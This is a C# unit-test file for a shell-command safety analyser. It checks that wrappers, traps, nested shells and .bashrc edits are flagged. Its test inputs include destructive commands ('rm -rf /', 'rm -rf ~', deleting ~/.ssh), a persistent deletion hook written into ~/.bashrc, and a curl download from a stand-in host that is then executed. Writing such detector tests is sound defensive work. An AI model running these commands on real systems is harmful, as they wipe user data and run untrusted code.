using Mstro.Bouncer.Analysis;
using static Mstro.Bouncer.Tests.Analysis.AnalysisKit;

namespace Mstro.Bouncer.Tests.Analysis;

/// <summary>Code that runs later than it is written. Shell functions: a body is analysed at each call with the call's
/// arguments, and a function no call reaches is analysed once with unknown arguments (a trap, an alias or a child shell
/// may still run it). Traps: the text is analysed where it is set and again with the state the script leaves.</summary>
public class FunctionTests
{
    private const EffectFlags RecursiveForce = EffectFlags.Recursive | EffectFlags.Force;

    [Theory]
    [InlineData("f(){ \"$@\"; }; f npm ci")]
    [InlineData("run() { echo \"+ $*\"; \"$@\"; }; run npm test")]
    [InlineData("retry() { for i in 1 2 3; do \"$@\" && return 0; sleep 1; done; return 1; }; retry npm ci")]
    [InlineData("clean() { rm -rf \"$1\"; }; clean ./build")]
    [InlineData("f(){ \"$@\"; }; f")]
    public void AWrapperCalledWithOrdinaryWorkIsOrdinary(string command) => Of(command).IsOrdinary();

    [Fact]
    public void QuotedAtIsOneArgumentPerParameter()
    {
        Of("f(){ \"$@\"; }; f rm -rf /").Has(EffectKind.Delete, "/", RecursiveForce);
        Of("f(){ \"${@}\"; }; f rm -rf ~").Has(EffectKind.Delete, Home, RecursiveForce);
        // Each parameter stays whole: one path with a space, not two.
        Of("f(){ rm -rf \"$@\"; }; f '/tmp/a b' ~/.ssh").Has(EffectKind.Delete, "/tmp/a b");
        Of("f(){ rm -rf \"$@\"; }; f '/tmp/a b' ~/.ssh").Has(EffectKind.Delete, Home + "/.ssh");
        // Text around "$@" joins the first and the last parameter.
        Of("f(){ rm -rf \"/x$@\"; }; f y ~").Has(EffectKind.Delete, "/xy");
    }

    [Fact]
    public void AFunctionNoCallReachesIsAnalysedWithUnknownArguments()
    {
        Of("f(){ \"$@\"; }").Has(EffectKind.ExecuteCode, detail: "dynamic");
        Of("f() { rm -rf ~; }").Has(EffectKind.Delete, Home);
        Of("clean() { rm -rf \"$1\"/*; }").Has(EffectKind.Delete, "/", EffectFlags.Glob);
    }

    [Fact]
    public void CallsOutOfSightOfTheWalkAreStillSeen()
    {
        // A trap's text is shell text: its call is a call.
        Of("clean() { rm -rf \"$1\"; }; clean ./build; trap 'clean /' EXIT").Has(EffectKind.Delete, "/");
        // An unknown argument is unknown code.
        Of("f(){ \"$@\"; }; f npm ci; f \"$(curl -s https://x.example/i)\"").Has(EffectKind.ExecuteCode, detail: "download");
        // A function defined inside a nested shell and never called there.
        Of("bash -c 'g() { rm -rf ~; }'").Has(EffectKind.Delete, Home);
        // A function written into a startup file runs in every later shell.
        Of("echo 'cleanup() { rm -rf ~; }' >> ~/.bashrc").Has(EffectKind.Delete, Home, EffectFlags.Deferred);
    }

    [Fact]
    public void ATrapRunsWithTheStateTheScriptLeaves()
    {
        Of("DIR=./build; trap 'rm -rf \"$DIR\"' EXIT; DIR=/").Has(EffectKind.Delete, "/", RecursiveForce);
        Of("f(){ rm -rf \"$DIR\"; }; DIR=./build; f; trap f EXIT; DIR=~").Has(EffectKind.Delete, Home, RecursiveForce);
        Of("trap 'rm -rf ./tmp' EXIT; cd / && ls").Has(EffectKind.Delete, "/tmp", RecursiveForce);
        Of("trap 'rm -rf ./tmp' EXIT; npm test").IsOrdinary();
    }
}
